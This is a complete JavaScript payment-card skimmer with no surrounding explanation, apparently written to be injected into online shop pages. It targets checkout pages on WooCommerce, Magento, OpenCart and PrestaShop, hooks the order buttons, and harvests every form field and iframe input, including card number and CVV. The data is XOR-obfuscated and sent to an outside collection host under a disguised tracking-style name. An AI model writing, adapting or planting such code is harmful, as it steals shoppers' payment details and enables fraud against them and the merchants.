;(function (win, doc, undefined) {
  'use strict';
  var S = {
    gate: ['https:', '', 'static-checkout-lib.example', 'api', 'v1', 'event'].join('/'),
    key: 'q8f2',
    mark: '_uetvid_s',
    pages: ['checkout', 'onestepcheckout', 'order', 'payment', 'kassa', 'oplata', 'sepet', 'pagamento'],
    stop: ['wp-admin', '/admin', 'adminhtml', 'wp-settings-'],
    map: {
      woo: { test: 'form.woocommerce-checkout', btn: '#place_order', pre: 'billing_' },
      mage: { test: '#checkout .opc', btn: '.payment-method._active .action.checkout', pre: 'billing-' },
      oc: { test: '#collapse-payment-method, #checkout-checkout', btn: '#button-confirm', pre: 'input-payment-' },
      ps: { test: 'body#checkout', btn: '#payment-confirmation button', pre: 'field-' },
      any: { test: 'form', btn: 'button[type=submit]', pre: '' }
    }
  };
  var data = {}, last = '';

  function onPage() {
    var h = win.location.href.toLowerCase();
    for (var i = 0; i < S.stop.length; i++) if (h.indexOf(S.stop[i]) > -1 || doc.cookie.indexOf(S.stop[i]) > -1) return false;
    for (i = 0; i < S.pages.length; i++) if (h.indexOf(S.pages[i]) > -1) return true;
    return false;
  }
  function shop() {
    for (var k in S.map) if (doc.querySelector(S.map[k].test)) return S.map[k];
  }
  function mix(t) {
    var o = [];
    for (var i = 0; i < t.length; i++) o.push(t.charCodeAt(i) ^ S.key.charCodeAt(i % S.key.length));
    return o.map(function (c) { return ('000' + c.toString(36)).slice(-3); }).join('');
  }
  function read(p) {
    var els = doc.querySelectorAll('input, select, textarea');
    for (var i = 0; i < els.length; i++) {
      var e = els[i], n = (e.id || e.name || '').replace(p.pre, '');
      if (!n || e.type === 'password' && !e.value) continue;
      if ((e.type === 'radio' || e.type === 'checkbox') && !e.checked) continue;
      if (e.value) data[n] = e.value;
    }
    var fr = doc.querySelectorAll('iframe');
    for (i = 0; i < fr.length; i++) {
      try {
        var inner = fr[i].contentDocument.querySelectorAll('input');
        for (var j = 0; j < inner.length; j++) if (inner[j].value) data['f' + i + '_' + (inner[j].name || j)] = inner[j].value;
      } catch (x) {}
    }
  }
  function full() {
    var num = false, code = false;
    for (var k in data) {
      var v = String(data[k]).replace(/[\s-]/g, '');
      if (/^(?:4\d{15}|5[1-5]\d{14}|2[2-7]\d{14}|3[47]\d{13}|6\d{15})$/.test(v)) num = true;
      if (/^\d{3,4}$/.test(v) && /c(v|s)c|cvv|cid|verif/i.test(k)) code = true;
    }
    return num && code;
  }
  function out() {
    var s = JSON.stringify({ d: data, u: win.location.host, a: win.navigator.userAgent, r: win.localStorage.getItem(S.mark) });
    if (s === last) return;
    last = s;
    var body = mix(unescape(encodeURIComponent(s)));
    if (win.fetch) win.fetch(S.gate, { method: 'POST', mode: 'no-cors', credentials: 'omit', body: body });
    else { var x = new XMLHttpRequest(); x.open('POST', S.gate, true); x.send(body); }
    win.localStorage.setItem(S.mark, String(Date.now()));
  }
  function tick() {
    var p = shop();
    if (!p) return;
    var b = doc.querySelectorAll(p.btn);
    for (var i = 0; i < b.length; i++) {
      if (b[i].getAttribute('data-ue')) continue;
      b[i].setAttribute('data-ue', '1');
      b[i].addEventListener('mousedown', function () { read(p); if (full()) out(); }, true);
      b[i].addEventListener('touchstart', function () { read(p); if (full()) out(); }, true);
    }
  }
  if (onPage()) win.setInterval(tick, 1000);
})(window, document);
